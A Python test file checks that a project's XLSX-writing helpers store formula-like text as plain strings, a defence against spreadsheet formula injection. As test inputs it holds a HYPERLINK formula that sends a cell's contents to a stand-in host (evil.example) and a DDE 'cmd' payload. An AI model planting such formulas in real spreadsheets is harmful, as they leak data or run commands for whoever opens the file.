"""Every XLSX cell Prongsai writes from text is text, never a formula (prongsai.core.spreadsheets)."""

from __future__ import annotations

import io

import openpyxl

from prongsai.core.spreadsheets import append_row, set_cell, workbook_bytes

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'


def cells(content: bytes) -> list[tuple[object, str]]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [(cell.value, cell.data_type) for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_it_writes_text_that_looks_like_a_formula_as_text() -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    set_cell(sheet, 1, 1, EVIL)
    append_row(sheet, ["+cmd|' /C calc'!A0", 12, 3.5, None, "@SUM(1+1)"])
    assert cells(workbook_bytes(workbook)) == [
        (EVIL, "s"),
        (None, "n"),
        (None, "n"),
        (None, "n"),
        (None, "n"),
        ("+cmd|' /C calc'!A0", "s"),
        (12, "n"),
        (3.5, "n"),
        (None, "n"),
        ("@SUM(1+1)", "s"),
    ]


def test_it_turns_formulas_written_any_other_way_into_text() -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet["A1"] = EVIL
    sheet.append(["=1+1"])
    other = workbook.create_sheet("อื่น")
    other.cell(row=3, column=2, value="=cmd")
    assert sheet["A1"].data_type == "f"  # what openpyxl does by itself
    found = [(value, kind) for value, kind in cells(workbook_bytes(workbook)) if value is not None]
    assert found == [(EVIL, "s"), ("=1+1", "s"), ("=cmd", "s")]
